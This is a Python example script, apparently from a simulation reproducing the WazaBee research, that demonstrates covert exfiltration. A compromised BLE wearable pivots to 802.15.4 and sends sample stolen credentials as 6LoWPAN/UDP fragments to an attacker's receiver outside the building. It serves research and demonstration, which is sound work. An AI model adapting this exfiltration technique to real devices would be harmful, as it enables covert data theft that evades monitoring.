#!/usr/bin/env python3
"""Covert exfiltration over a protocol nobody is monitoring.

The paper's introduction motivates WazaBee with exactly this: a corrupted
BLE object can "exfiltrate data to an illegitimate remote receiver ... by
communicating through a wireless protocol that is not supposed to be
monitored in the targeted environment".

Here the environment deploys *only* BLE.  A compromised BLE wearable
(nRF52832) pivots to 802.15.4 and ships stolen data as 6LoWPAN/UDP
datagrams — compressed, fragmented, checksummed IPv6 — to the attacker's
receiver van parked outside, which runs an ordinary 6LoWPAN stack on a
commodity 802.15.4 radio.  No BLE monitoring tool will ever see the data.

Run:  python examples/sixlowpan_exfiltration.py
"""

import numpy as np

from repro.chips import Nrf52832
from repro.chips.rzusbstick import Dot15d4Radio
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data
from repro.dot15d4.mac import MacService
from repro.radio import RfMedium, Scheduler
from repro.sixlowpan import SixLowpanAdaptation
from repro.sixlowpan.fragmentation import fragment_datagram
from repro.sixlowpan.iphc import compress_datagram, link_iid
from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address

PAN = 0xC0FE
IMPLANT = Address(pan_id=PAN, address=0x0BAD)
RECEIVER = Address(pan_id=PAN, address=0x0001)
CHANNEL = 20  # 2450 MHz — shared with BLE data channel 22 (Table II)
STOLEN = (b"user=alice;badge=7731;wifi-psk=hunter2;"
          b"calendar=board-meeting-0900-room-5;") * 3  # > one frame


def main() -> None:
    scheduler = Scheduler()
    medium = RfMedium(scheduler)

    # The attacker's receiver outside the building: a plain 6LoWPAN node.
    sink_radio = Dot15d4Radio(medium, "receiver-van", (25.0, 0.0),
                              rng=np.random.default_rng(1))
    sink_radio.set_channel(CHANNEL)
    sink_mac = MacService(sink_radio, RECEIVER)
    sink = SixLowpanAdaptation(sink_mac)
    sink_mac.start()
    received = []
    sink.on_udp(received.append)

    # The compromised wearable inside: BLE silicon, WazaBee firmware.
    implant = Nrf52832(medium, name="wearable", position=(0.0, 0.0),
                       tx_power_dbm=4.0, rng=np.random.default_rng(2))
    firmware = WazaBeeFirmware(implant, scheduler)

    header = Ipv6Header(
        source=link_local_address(PAN, IMPLANT.address),
        destination=link_local_address(PAN, RECEIVER.address),
    )
    udp = UdpDatagram(source_port=0xF0B1, destination_port=0xF0B2,
                      payload=STOLEN)
    compressed = compress_datagram(
        header, udp.to_bytes(header),
        source_link_iid=link_iid(PAN, IMPLANT.address),
        destination_link_iid=link_iid(PAN, RECEIVER.address),
    )
    fragments = fragment_datagram(compressed, tag=1)
    print(f"stolen payload: {len(STOLEN)} bytes -> compressed 6LoWPAN "
          f"datagram: {len(compressed)} bytes -> {len(fragments)} fragments")

    for index, fragment in enumerate(fragments):
        frame = build_data(IMPLANT, RECEIVER, fragment,
                           sequence_number=index + 1, ack_request=False)
        scheduler.schedule(0.005 * index,
                           lambda f=frame: firmware.send_frame(f, CHANNEL))
    scheduler.run(0.1)

    assert received, "exfiltration failed"
    datagram = received[0]
    print(f"receiver got UDP {datagram.header.pretty_source()} -> "
          f"{datagram.header.pretty_destination()} "
          f"port {datagram.datagram.destination_port} "
          f"(checksum ok: {datagram.checksum_ok})")
    print(f"payload intact: {datagram.datagram.payload == STOLEN}")
    print("the data left the building over 802.15.4 — carried by a chip "
          "that only ever shipped with BLE firmware.")


if __name__ == "__main__":
    main()
